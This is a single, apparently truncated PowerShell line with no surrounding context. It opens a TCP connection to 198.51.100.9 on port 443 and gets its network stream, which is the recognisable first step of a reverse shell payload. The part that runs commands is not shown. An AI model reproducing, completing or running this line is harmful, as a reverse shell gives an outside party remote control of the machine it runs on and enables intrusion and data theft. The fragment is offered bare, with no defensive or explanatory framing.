$c = New-Object Net.Sockets.TCPClient('198.51.100.9',443);$s = $c.GetStream()
